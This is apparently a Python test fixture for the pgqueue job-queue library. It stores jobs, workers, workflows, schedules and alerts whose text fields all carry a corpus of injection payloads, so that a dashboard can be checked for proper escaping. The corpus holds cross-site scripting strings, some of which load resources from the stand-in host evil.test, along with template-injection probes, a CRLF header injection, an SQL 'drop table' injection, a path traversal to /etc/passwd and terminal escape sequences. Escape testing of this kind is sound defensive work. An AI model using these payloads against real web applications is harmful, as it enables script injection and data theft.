"""Fills a database with everything that a page can show, with texts that would run as a script if a page did not escape them."""

from __future__ import annotations

from typing import Any, NamedTuple

from psycopg import Connection
from psycopg.types.json import Jsonb

from pgqueue.database import statements
from pgqueue.database.run import run
from pgqueue.model.outcome import COMPLETED, Outcome
from tests import workflows
from tests.factories import add_limit, enqueue
from tests.worker_by_hand import LimitedHand

# Each of these texts becomes a script, a tag, another address or another line if it is not escaped in its place.
CORPUS = (
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "'><img src=x onerror=alert(3)>",
    "<svg/onload=alert(4)>",
    "<svg><script>alert&#40;5&#41;</script></svg>",
    "</script><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    "</title><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "<!--<script>alert(10)//--></script>",
    "<iframe src=javascript:alert(11)>",
    "<iframe srcdoc='<script>alert(12)</script>'>",
    "<a href=javascript:alert(13)>x</a>",
    "<details open ontoggle=alert(14)>",
    "<body onload=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)>",
    "<math><mi//xlink:href='data:x,<script>alert(18)</script>'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><button>x</button>",
    "<object data=//evil.test/x.swf>",
    "<img src=//evil.test/pixel.png>",
    "<style>@import '//evil.test/x.css'</style>",
    "<div style=background:url(//evil.test/y.png)>",
    "{{7*7}} {{config}} {% print(1) %} ${7*7} #{7*7}",
    "[[${7*7}]] <%= 7*7 %> @(7*7)",
    '" onmouseover=alert(28) x="',
    "' onmouseover='alert(29)' x='",
    "` onmouseover=alert(30)",
    "javascript:alert(31)",
    "data:text/html,<script>alert(32)</script>",
    "//evil.test/path",
    "\\u003cscript\\u003ealert(34)\\u003c/script\\u003e",
    "&lt;script&gt;alert(35)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(36)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(37)%3C/script%3E",
    "\uff1cscript\uff1ealert(38)\uff1c/script\uff1e",
    "\u2028alert(39)\u2029",
    "a\u202ecba\u2066x\u2069",
    "\x1b]0;owned\x07\x1b[2J",
    "line 1\r\nSet-Cookie: a=b\r\n\r\n<script>alert(43)</script>",
    "'; drop table pgqueue.jobs; --",
    "../../etc/passwd",
    "<hx-get='//evil.test' hx-trigger='load'>",
    "<div hx-get=//evil.test hx-trigger=load>x</div>",
    "<button hx-on:click=alert(48)>x</button>",
    "<script type=module>import('//evil.test/x.js')</script>",
    "x" * 300,
)
EVERYTHING = " ".join(CORPUS)[:3000]
TRACEBACK = f'Traceback (most recent call last):\n  File "/app/shop.py", line 7, in charge\n    {CORPUS[0]}\nValueError: {CORPUS[1]}'


class Scene(NamedTuple):
    """The ids of one thing of each kind."""

    jobs: dict[str, int]  # by state
    worker: int
    limit: int
    workflow: int
    batch: int
    schedule: str
    action: int
    fingerprint: str


def fill(db: Connection[Any], text: str = EVERYTHING) -> Scene:
    """Stores jobs in all states, a worker, a limit, a workflow, a batch, a schedule and an alert. ``text`` stands in every free text."""
    short = text[:200]
    db.execute("insert into pgqueue.queues (name) values ('default'), ('mail') on conflict do nothing")
    limit = add_limit(db, queue="default", task="t", concurrency=50)
    hand = LimitedHand(db, ["t", "u"])
    db.execute(
        "update pgqueue.workers set host = %s, app_version = %s, executor = %s where id = %s",
        [short, short, short[:50], hand.id],
    )
    args = {"text": text, "tenant": "t1", "list": list(CORPUS[:5])}
    options = {"tags": [short[:60]], "concurrency_key": short[:80], "meta": {"from": text}}
    ids = {
        state: enqueue(db, "t", args, **options) for state in ("completed", "dead", "cancelled", "retrying")
    }
    attempts = {attempt.id: attempt for attempt in hand.take()}
    error = ValueError(text)
    outcomes = {
        "completed": COMPLETED,
        "dead": Outcome.dead("attempts used up", error),
        "cancelled": Outcome.cancelled(text),
        "retrying": Outcome.retried(3600.0, error),
    }
    for state, job_id in ids.items():
        assert hand.settle(attempts[job_id], outcomes[state])
    db.execute("update pgqueue.jobs_dead set last_traceback = %s", [TRACEBACK])
    db.execute("update pgqueue.transitions set traceback = %s where error is not null", [TRACEBACK])
    db.execute(
        "update pgqueue.jobs_done set result = %s where id = %s", [Jsonb({"said": text}), ids["completed"]]
    )
    ids["running"] = enqueue(db, "u", args, **{**options, "concurrency_key": None})
    [running] = hand.take(after=None)
    assert running.id == ids["running"]
    db.execute(
        "update pgqueue.jobs_live set progress = %s where id = %s",
        [Jsonb({"done": 3, "total": 10, "message": short}), ids["running"]],
    )
    ids["pending"] = enqueue(db, "t", args, queue="mail", **options)
    workflow = workflows.store(
        db,
        workflows.node("first"),
        workflows.node("second", "first"),
        workflows.group("both", "first", "second"),
        name=short[:100],
    )
    ids["waiting"] = db.execute(
        "select j.id from pgqueue.jobs_live j where j.workflow_id = %s and j.state = 'waiting'", [workflow]
    ).fetchone()[0]  # type: ignore[index]
    [(batch,)] = db.execute(
        "select id from pgqueue.enqueue_batch(%s)",
        [Jsonb({"name": short[:100], "jobs": [{"task": "t"}, {"task": "t"}]})],
    )
    db.execute(
        "insert into pgqueue.schedules (name, task, cron, tz, args) values ('nightly', 't', '30 2 * * *', 'Europe/Warsaw', %s)",
        [Jsonb(args)],
    )
    db.execute("update pgqueue.schedules set problem = %s", [short])
    db.execute(
        "insert into pgqueue.alerts (kind, subject, queue, text, job_id) values ('dead', %s, 'default', %s, %s)",
        [short, text, ids["dead"]],
    )
    db.execute(
        "insert into pgqueue.tasks (name, app, options, digest) values ('t', %s, %s, 'x') on conflict do nothing",
        [short[:60], Jsonb({"queue": "mail"})],
    )
    db.execute(
        "insert into pgqueue.job_lines (job_id, attempt, at, level, logger, text) values (%s, 1, now(), 'WARNING', 'shop', %s)",
        [ids["dead"], text],
    )
    run(db, statements.pause_queue("mail", who=statements.Who(short[:60], "cli")))
    run(db, statements.resume_queue("mail", who=statements.Who("ann", "web")))
    [(action,)] = db.execute("select min(id) from pgqueue.audit")
    [group, *_] = run(db, statements.list_errors())
    return Scene(ids, hand.id, limit, workflow, batch, "nightly", action, group.fingerprint)
